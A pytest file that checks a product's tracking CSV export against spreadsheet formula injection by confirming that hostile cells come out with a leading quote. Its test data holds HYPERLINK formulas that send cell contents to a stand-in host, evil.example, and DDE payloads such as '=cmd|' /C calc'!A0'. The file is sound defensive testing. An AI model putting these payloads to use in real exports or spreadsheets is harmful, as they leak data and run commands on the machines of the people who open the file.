"""Formula injection into the CSV the product writes (``tracking export --format csv``,
``tracking show --csv``): user agents, file names, property keys, contact and agent
names that a spreadsheet would run arrive as text, with a leading ``'``."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote, urlsplit

import pytest
import requests

from gateway.services.export import spreadsheet_safe
from tests.factories import AGENT_PASSWORD, make_contact, make_grant, make_property
from tests.tracking_tools import wait_for_events

pytestmark = pytest.mark.server

REF = "4799"
KEY = "-2-3"  # a valid property key that a spreadsheet computes to -5
TITLE = '=HYPERLINK("http://evil.example/?t="&A1,"Titel")'
CONTACT_NAME = "=cmd|' /C calc'!A0"
NAMES = [
    '=HYPERLINK("evil.example?leak="&A1,"Plan").pdf',  # a name holds no "/"
    "+SUM(1,2).pdf",
    "@SUM(1+1)*cmd.pdf",
    "-1+1.pdf",
    "＝1+1.pdf",  # full-width equals sign
]
AGENTS = [
    '=HYPERLINK("http://evil.example/?ua="&A1,"klick")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 Mozilla/5.0",
    "-1+1 Mozilla/5.0",
]
FORMULA_START = tuple("=+-@＝＋－＠")


def runs_as_formula(cell: str) -> bool:
    """What spreadsheets treat as a formula: those first characters, also after
    blanks, or a leading tab or CR."""
    return cell.startswith(("\t", "\r")) or cell.lstrip(" \t\r\n").startswith(FORMULA_START)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Grundriss EG.pdf", "Grundriss EG.pdf"),
        ("a=b+c", "a=b+c"),
        ("4711", "4711"),
        ("2026-01-12T13:46:39Z", "2026-01-12T13:46:39Z"),
        ("", ""),
    ],
)
def test_cells_that_could_start_a_formula_get_a_quote(text, written):
    assert spreadsheet_safe(text) == written


@pytest.fixture
def hostile(config, world, request):
    """Downloads by a contact and an agent of files with formula names, from browsers
    with formula user agents, of a property whose key and title are formulas."""
    make_property(config, KEY, TITLE, files={name: b"%PDF-1.4 " + name.encode() for name in NAMES})
    make_contact(REF, CONTACT_NAME)
    link = urlsplit(make_grant(config, KEY, REF).link).path
    server = request.getfixturevalue("server")  # started once the data is in place
    link = server.url + link
    for number, name in enumerate(NAMES):
        agent = AGENTS[number % len(AGENTS)]
        r = requests.get(f"{link}/download/{quote(name)}", headers={"User-Agent": agent})
        assert r.status_code == 200
        r = requests.get(
            f"{server.url}/dav/{KEY}/{quote(name)}",
            auth=("anna", AGENT_PASSWORD),
            headers={"User-Agent": agent},
        )
        assert r.status_code == 200
    wait_for_events(2 * len(NAMES), action="download")


def csv_rows(result) -> list[list[str]]:
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize(
    "command",
    [
        ["tracking", "export", "--format", "csv"],
        ["tracking", "show", "--csv"],
        ["tracking", "show", f"--property={KEY}", "--csv"],
        ["tracking", "show", "--contact", REF, "--csv"],
    ],
)
def test_no_csv_cell_runs_as_a_formula(cli, hostile, command):
    rows = csv_rows(cli(*command))
    assert len(rows) > len(NAMES)  # a header and the downloads
    dangerous = [cell for cell in cells(rows) if runs_as_formula(cell)]
    assert dangerous == []
    written = cells(rows)
    assert "'" + KEY in written
    assert {"'" + name for name in NAMES} <= written
    if command[1] == "export":
        assert {"'" + agent for agent in AGENTS} <= written


def test_the_export_as_ndjson_keeps_the_values_as_they_are(cli, hostile):
    result = cli("tracking", "export", "--format", "ndjson")
    assert result.exit_code == 0, result.output
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert {e["path"] for e in events if e["action"] == "download"} == set(NAMES)
    assert {e["user_agent"] for e in events} == set(AGENTS)
    assert {e["property"] for e in events} == {KEY}
